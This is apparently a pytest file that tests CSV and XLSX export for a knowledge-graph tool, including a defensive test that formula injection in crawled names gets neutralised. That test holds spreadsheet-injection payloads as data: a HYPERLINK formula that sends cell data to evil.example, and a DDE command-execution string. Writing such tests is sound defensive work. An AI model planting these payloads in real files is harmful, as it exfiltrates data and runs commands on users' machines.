"""CSV tables: stdlib csv reads them back, in a folder or a zip, with or without BOM."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

from maillage.export import csv as csv_export
from maillage.export.csv import write_csv
from tests.conftest import ROOT

TABLES = ("entities", "facts", "evidence", "documents")
COLUMNS = {
    "entities": "ENTITY_COLUMNS",
    "facts": "FACT_COLUMNS",
    "evidence": "EVIDENCE_COLUMNS",
    "documents": "DOCUMENT_COLUMNS",
}


def read_folder(folder, encoding="utf-8"):
    return {
        name: list(csv.DictReader((folder / f"{name}.csv").open(encoding=encoding, newline="")))
        for name in TABLES
    }


def test_csv_folder_loads_with_stdlib_csv(graph, tmp_path):
    store, ids = graph
    counts = write_csv(store, tmp_path / "out")
    tables = read_folder(tmp_path / "out")
    assert counts == {name: len(rows) for name, rows in tables.items()}
    assert counts == {"entities": 6, "facts": 6, "evidence": 7, "documents": 2}
    partner = next(r for r in tables["facts"] if r["id"] == ids["partner"])
    assert partner["predicate"] == "partner_of" and partner["subject_name"].startswith(
        "École nationale"
    )
    assert (
        partner["sources"] == "2"
        and partner["curation"] == "accepted"
        and partner["date"] == "2016-02-18"
    )
    ensam = next(r for r in tables["entities"] if r["id"] == "org-ensam")
    assert ensam["aliases"] == "Arts et Métiers ParisTech" and ensam["wikidata"] == "Q273533"
    figure = next(r for r in tables["facts"] if r["id"] == ids["figure"])
    assert (
        figure["unit"] == "élèves"
        and float(figure["value"]) == 3000
        and json.loads(figure["qualifiers"]) == {"unit": "élèves"}
    )


def test_csv_evidence_points_into_document_text(graph, tmp_path):
    store, _ = graph
    write_csv(store, tmp_path / "out")
    tables = read_folder(tmp_path / "out")
    texts = {d["id"]: d["text"] for d in tables["documents"]}
    for row in tables["evidence"]:
        assert texts[row["document"]][int(row["start"]) : int(row["end"])] == row["text"]
        assert row["rule"] and row["pipeline_version"]


def test_csv_zip_with_bom_for_spreadsheets(graph, tmp_path):
    store, _ = graph
    write_csv(store, tmp_path / "out.zip", bom=True)
    with zipfile.ZipFile(tmp_path / "out.zip") as archive:
        assert sorted(archive.namelist()) == sorted(f"{t}.csv" for t in TABLES)
        raw = archive.read("facts.csv")
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == 6 and "id" in rows[0]


def test_csv_columns_are_documented():
    documented = (ROOT / "docs" / "exports.md").read_text(encoding="utf-8")
    for table in TABLES:
        columns = getattr(csv_export, COLUMNS[table])
        section = documented.split(f"### `{table}.csv`")[1].split("###")[0]
        listed = re.findall(r"^\| `([a-z_]+)` \|", section, flags=re.M)
        assert listed == list(columns), table


def test_csv_cells_that_would_be_formulas_are_neutralised(graph, tmp_path):
    """Issue 13, row 11: a crawled title must not run as a spreadsheet formula."""
    from sqlalchemy import update

    from maillage.store.schema import documents, entities

    store, _ids = graph
    hostile = {
        "org-ensam": '=HYPERLINK("http://evil.example/?"&A1,"clic")',
        "org-utbm": "@SUM(1+1)*cmd|' /C calc'!A0",
        "org-polymeca": "+33 1 23",
        "place-besancon": "-2+3",
        "per-laurent-champaney": "\tTab",
    }
    with store.engine.begin() as connection:
        for entity, name in hostile.items():
            connection.execute(update(entities).where(entities.c.id == entity).values(name=name))
        connection.execute(update(documents).values(title="\r=1+1"))
    write_csv(store, tmp_path / "out", delimiter=";")
    tables = {
        name: list(
            csv.DictReader(
                (tmp_path / "out" / f"{name}.csv").open(encoding="utf-8", newline=""), delimiter=";"
            )
        )
        for name in TABLES
    }
    names = {row["id"]: row["name"] for row in tables["entities"]}
    for entity, name in hostile.items():
        assert names[entity] == "'" + name
    assert all(row["title"] == "'\r=1+1" for row in tables["documents"])
    assert all(not r["subject_name"].startswith(("=", "+", "-", "@")) for r in tables["facts"])
    assert csv_export.neutralised(-3) == -3 and csv_export.neutralised("a=b") == "a=b"


def test_xlsx_writes_text_as_text_never_as_formula(graph, tmp_path):
    from sqlalchemy import update

    from maillage.export.xlsx import write_xlsx
    from maillage.store.schema import entities

    store, _ids = graph
    with store.engine.begin() as connection:
        connection.execute(
            update(entities).where(entities.c.id == "org-ensam").values(name='=HYPERLINK("x")')
        )
    counts, notes = write_xlsx(store, tmp_path / "graph.xlsx")
    assert counts["facts"] == 6 and notes == []
    with zipfile.ZipFile(tmp_path / "graph.xlsx") as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 4
        xml = "".join(book.read(n).decode("utf-8") for n in sheets)
        strings = (
            book.read("xl/sharedStrings.xml").decode("utf-8")
            if "xl/sharedStrings.xml" in book.namelist()
            else xml
        )
    assert "<f>" not in xml  # no formula cell anywhere
    assert "=HYPERLINK(&quot;x&quot;)" in strings or '=HYPERLINK("x")' in strings
